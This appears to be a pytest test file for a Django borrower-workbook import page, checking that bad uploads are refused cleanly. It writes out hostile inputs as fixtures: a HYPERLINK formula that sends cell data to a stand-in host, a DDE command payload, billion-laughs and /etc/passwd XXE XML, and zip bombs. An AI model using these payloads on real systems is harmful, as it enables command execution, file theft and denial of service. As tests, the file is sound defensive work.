"""A broken or malicious borrower workbook on /registry/transfer/import/:
wrong types, formulas, an oversized file, a zip bomb, a file that is no
workbook at all. Each gets a clear error on the page, nothing is written
(not a row, not a history row, not a stored upload) and the next request
works. The workbooks are built here, byte by byte where need be."""

import datetime
import io
import zipfile

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from openpyxl import Workbook

from beneficiaries.models import Borrower, Household, Position
from beneficiaries.transfer import resources as wb
from beneficiaries.transfer import services as transfer
from tests.beneficiaries.transfer_fixtures import (
    XLSX_TYPE,
    borrower_row,
    make_places,
    workbook_bytes,
)

IMPORT = reverse("transfer:import")
CONFIRM = reverse("transfer:confirm")
SHEET = "xl/worksheets/sheet1.xml"
MB = 1024 * 1024


@pytest.fixture(autouse=True)
def media_root(settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path / "media"
    return settings.MEDIA_ROOT


@pytest.fixture
def officer(client, cast):
    make_places(cast)
    client.force_login(cast.county)
    return cast.county


def registry_counts() -> dict:
    return {
        "households": Household.objects.count(),
        "borrowers": Borrower.objects.count(),
        "positions": Position.objects.count(),
        "household history": Household.history.count(),
        "borrower history": Borrower.history.count(),
        "position history": Position.history.count(),
    }


def stored_uploads(media_root) -> list:
    directory = media_root / transfer.UPLOAD_DIR
    return sorted(directory.iterdir()) if directory.exists() else []


def post(client, content: bytes, name: str = "借款人.xlsx"):
    return client.post(
        IMPORT, {"workbook": SimpleUploadedFile(name, content, content_type=XLSX_TYPE)}
    )


def form_errors(response) -> str:
    assert response.status_code == 200
    assert "report" not in response.context, "a refused file has no preview"
    errors = response.context["form"].errors.get("workbook")
    assert errors, response.content.decode()[:2000]
    page = response.content.decode()
    for error in errors:
        assert 'role="alert">%s</p>' % _escaped(error) in page
    return " ".join(errors)


def _escaped(text: str) -> str:
    from django.utils.html import escape

    return escape(text)


def with_member(content: bytes, name: str, data: bytes, *, compresslevel=None) -> bytes:
    """The zip archive ``content`` with member ``name`` replaced by ``data``."""
    source = zipfile.ZipFile(io.BytesIO(content))
    output = io.BytesIO()
    with zipfile.ZipFile(output, "w", zipfile.ZIP_DEFLATED, compresslevel=compresslevel) as target:
        for info in source.infolist():
            target.writestr(info.filename, data if info.filename == name else source.read(info))
    return output.getvalue()


def assert_unharmed(client, before, media_root):
    """Nothing written, nothing kept, and the server answers the next request."""
    assert registry_counts() == before
    assert stored_uploads(media_root) == []
    assert client.post(CONFIRM).status_code == 302  # nothing waits to be confirmed
    good = post(client, workbook_bytes([borrower_row(1)]))
    assert good.context["report"].ok and good.context["report"].new == 1
    assert registry_counts() == before, "the preview writes nothing"


# Wrong types ------------------------------------------------------------------------


def test_cells_of_the_wrong_type_are_reported_row_by_row(client, officer, media_root):
    before = registry_counts()
    rows = [
        borrower_row(1),
        borrower_row(3, **{wb.ID_NUMBER: datetime.datetime(2024, 1, 1, 8, 30)}),
        borrower_row(5, **{wb.MEMBERS: True}),
        borrower_row(7, **{wb.MEMBERS: 2.5}),
        borrower_row(9, **{wb.SCALE: 1e300}),
        borrower_row(11, **{wb.BIRTH_DATE: datetime.time(8, 30)}),
        borrower_row(13, **{wb.PHONE: 1.3e5}),
        borrower_row(15, **{wb.STARTED: 45000}),
        borrower_row(17, **{wb.PARTY: 1}),
        borrower_row(19, **{wb.SCALE: "#DIV/0!"}),
        borrower_row(21, **{wb.ID_NUMBER: 5.3082219850612e17}),
    ]
    response = post(client, workbook_bytes(rows))
    assert response.status_code == 200
    report = response.context["report"]
    assert report.total == 11
    # Every row but the first is refused, each for its own cell.
    assert report.bad_rows == list(range(3, 13)), report.errors
    blamed = {(error.row, error.column) for error in report.errors}
    assert {
        (3, wb.ID_NUMBER),
        (4, wb.MEMBERS),
        (5, wb.MEMBERS),
        (6, wb.SCALE),
        (7, wb.BIRTH_DATE),
        (8, wb.PHONE),
        (9, wb.STARTED),
        (10, wb.PARTY),
        (11, wb.SCALE),
        (12, wb.ID_NUMBER),
    } <= blamed, report.errors
    assert CONFIRM not in response.content.decode()
    client.post(CONFIRM)
    assert registry_counts() == before
    # The upload stays only for the annotated workbook; cancel discards it.
    client.post(reverse("transfer:cancel"))
    assert_unharmed(client, before, media_root)


# Formulas ---------------------------------------------------------------------------


FORMULAS = {
    "hyperlink": '=HYPERLINK("http://example.invalid/?q="&A2,"点击")',
    "dde": "=cmd|' /C calc'!A0",
    "sum": "=SUM(1,2)",
}


@pytest.mark.parametrize("formula", FORMULAS.values(), ids=FORMULAS.keys())
def test_a_formula_in_any_cell_refuses_the_workbook(client, officer, media_root, formula):
    before = registry_counts()
    rows = [borrower_row(1), borrower_row(3, **{wb.NAME: formula})]
    error = form_errors(post(client, workbook_bytes(rows)))
    column = "ABCDEFGHIJKLMNOPQRSTUVWXYZ"[wb.COLUMNS.index(wb.NAME)]
    assert f"{column}3" in error
    assert "=" not in error, "the formula itself is not echoed"
    assert_unharmed(client, before, media_root)


def test_an_array_formula_and_a_formula_outside_the_columns_refuse_it_too(
    client, officer, media_root
):
    from openpyxl.worksheet.formula import ArrayFormula

    before = registry_counts()
    book = Workbook()
    sheet = book.active
    sheet.append([*wb.COLUMNS, "备注"])
    sheet.append([borrower_row(1)[c] for c in wb.COLUMNS] + ["=1+1"])
    sheet.append([borrower_row(3)[c] for c in wb.COLUMNS])
    sheet["B3"] = ArrayFormula("B3:B3", "=SUM(1,2)")
    output = io.BytesIO()
    book.save(output)
    error = form_errors(post(client, output.getvalue()))
    extra = "ABCDEFGHIJKLMNOPQRSTUVWXYZ"[len(wb.COLUMNS)]
    assert f"{extra}2" in error and "B3" in error
    assert_unharmed(client, before, media_root)


def test_text_that_starts_with_an_equals_sign_is_refused_as_a_formula(client, officer, media_root):
    """A text cell '=HYPERLINK(...) would become a live formula in every
    export (openpyxl writes a string starting with = as a formula)."""
    before = registry_counts()
    content = workbook_bytes([borrower_row(1, **{wb.ENTITY: "placeholder-entity"})])
    evil = b'=HYPERLINK("http://example.invalid","x")'.replace(b'"', b"&quot;")
    archive = zipfile.ZipFile(io.BytesIO(content))
    (part,) = [n for n in archive.namelist() if b"placeholder-entity" in archive.read(n)]
    content = with_member(content, part, archive.read(part).replace(b"placeholder-entity", evil))
    error = form_errors(post(client, content))
    column = "ABCDEFGHIJKLMNOPQRSTUVWXYZ"[wb.COLUMNS.index(wb.ENTITY)]
    assert f"{column}2" in error
    assert_unharmed(client, before, media_root)


# Size ---------------------------------------------------------------------------------


def test_a_file_over_the_limit_is_refused_by_its_size(client, officer, media_root):
    before = registry_counts()
    big = b"PK\x03\x04" + b"0" * (6 * MB)
    error = form_errors(post(client, big)).replace("\xa0", " ")
    assert "6.0 MB" in error and "5.0 MB" in error
    assert_unharmed(client, before, media_root)


def test_a_much_bigger_body_is_not_stored_before_it_is_refused(
    client, officer, media_root, monkeypatch
):
    """The import page's own upload handler stops reading the file at the
    limit: nothing of a 40 MB upload reaches a temporary file."""
    from django.core.files.uploadhandler import TemporaryFileUploadHandler

    written = []
    original = TemporaryFileUploadHandler.receive_data_chunk

    def counting(self, raw_data, start):
        written.append(len(raw_data))
        return original(self, raw_data, start)

    monkeypatch.setattr(TemporaryFileUploadHandler, "receive_data_chunk", counting)
    before = registry_counts()
    error = form_errors(post(client, b"PK\x03\x04" + b"0" * (40 * MB))).replace("\xa0", " ")
    assert "40.0 MB" in error and "5.0 MB" in error
    assert sum(written) <= transfer.MAX_UPLOAD_BYTES
    assert_unharmed(client, before, media_root)


# Zip bombs and broken archives ----------------------------------------------------------


def zip_bomb(unpacked: int) -> bytes:
    """A real workbook whose worksheet XML unpacks to ``unpacked`` bytes:
    the rows, then a long run of whitespace inside the sheet element."""
    content = workbook_bytes([borrower_row(1)])
    source = zipfile.ZipFile(io.BytesIO(content))
    output = io.BytesIO()
    with zipfile.ZipFile(output, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as target:
        for info in source.infolist():
            data = source.read(info)
            if info.filename != SHEET:
                target.writestr(info.filename, data)
                continue
            head, tail = data.split(b"</worksheet>")
            with target.open(SHEET, "w", force_zip64=True) as member:
                member.write(head)
                chunk = b" " * MB
                for _ in range(unpacked // MB):
                    member.write(chunk)
                member.write(b"</worksheet>" + tail)
    return output.getvalue()


def test_a_zip_bomb_is_refused_by_its_unpacked_size_before_parsing(
    client, officer, media_root, monkeypatch
):
    bomb = zip_bomb(400 * MB)
    assert len(bomb) < transfer.MAX_UPLOAD_BYTES, "small enough to pass the upload limit"
    parsed = []
    monkeypatch.setattr(
        transfer, "load_workbook", lambda *a, **k: parsed.append(a) or pytest.fail("parsed")
    )
    before = registry_counts()
    error = form_errors(post(client, bomb)).replace("\xa0", " ")
    assert "400.0 MB" in error
    assert parsed == []
    monkeypatch.undo()
    assert_unharmed(client, before, media_root)


def test_a_lying_size_in_the_archive_directory_does_not_get_past(client, officer, media_root):
    """A part that claims to be small but inflates to far more: zipfile
    stops at the declared size, and the part's checksum is then wrong."""
    bomb = bytearray(zip_bomb(30 * MB))
    record = bomb.index(b"PK\x01\x02")  # the central directory
    name = SHEET.encode()
    while bomb[record + 46 : record + 46 + len(name)] != name:
        record = bomb.index(b"PK\x01\x02", record + 4)
    bomb[record + 24 : record + 28] = (4096).to_bytes(4, "little")  # uncompressed size
    assert zipfile.ZipFile(io.BytesIO(bytes(bomb))).getinfo(SHEET).file_size == 4096
    before = registry_counts()
    form_errors(post(client, bytes(bomb)))
    assert_unharmed(client, before, media_root)


BROKEN = {
    "renamed text": lambda: "编号,姓名\n1,张三\n".encode(),
    "renamed pdf": lambda: b"%PDF-1.7\n" + b"\x00" * 200,
    "renamed xls": lambda: bytes.fromhex("d0cf11e0a1b11ae1") + b"\x00" * 512,
    "zip of text": lambda: _zip({"readme.txt": b"hello"}),
    "truncated": lambda: workbook_bytes([borrower_row(1)])[:700],
    "broken sheet xml": lambda: with_member(
        workbook_bytes([borrower_row(1)]), SHEET, b"<worksheet><sheetData><row r='1'><c"
    ),
    "billion laughs": lambda: with_member(workbook_bytes([borrower_row(1)]), SHEET, LAUGHS),
    "external entity": lambda: with_member(workbook_bytes([borrower_row(1)]), SHEET, EXTERNAL),
    "corrupt deflate": lambda: _corrupt(workbook_bytes([borrower_row(1)])),
}

LAUGHS = (
    b'<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">'
    + b"".join(
        b'<!ENTITY lol%d "%s">' % (i, (b"&lol%d;" % (i - 1) if i > 1 else b"&lol;") * 10)
        for i in range(1, 10)
    )
    + b']><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
    b'<sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>&lol9;</t></is></c></row>'
    b"</sheetData></worksheet>"
)
EXTERNAL = (
    b'<?xml version="1.0"?><!DOCTYPE w [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
    b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
    b'<sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>&x;</t></is></c></row>'
    b"</sheetData></worksheet>"
)


def _zip(members: dict) -> bytes:
    output = io.BytesIO()
    with zipfile.ZipFile(output, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in members.items():
            archive.writestr(name, data)
    return output.getvalue()


def _corrupt(content: bytes) -> bytes:
    """Scramble the middle of the worksheet's compressed data."""
    archive = zipfile.ZipFile(io.BytesIO(content))
    info = archive.getinfo(SHEET)
    start = info.header_offset + 30 + len(info.filename.encode()) + len(info.extra)
    data = bytearray(content)
    for offset in range(start + 10, start + min(info.compress_size - 10, 200)):
        data[offset] ^= 0x5A
    return bytes(data)


@pytest.mark.parametrize("kind", BROKEN)
def test_a_file_that_is_not_a_readable_workbook_gets_a_clear_error(
    client, officer, media_root, kind
):
    before = registry_counts()
    error = form_errors(post(client, BROKEN[kind]()))
    assert "/etc/passwd" not in error and "root:" not in error
    assert_unharmed(client, before, media_root)
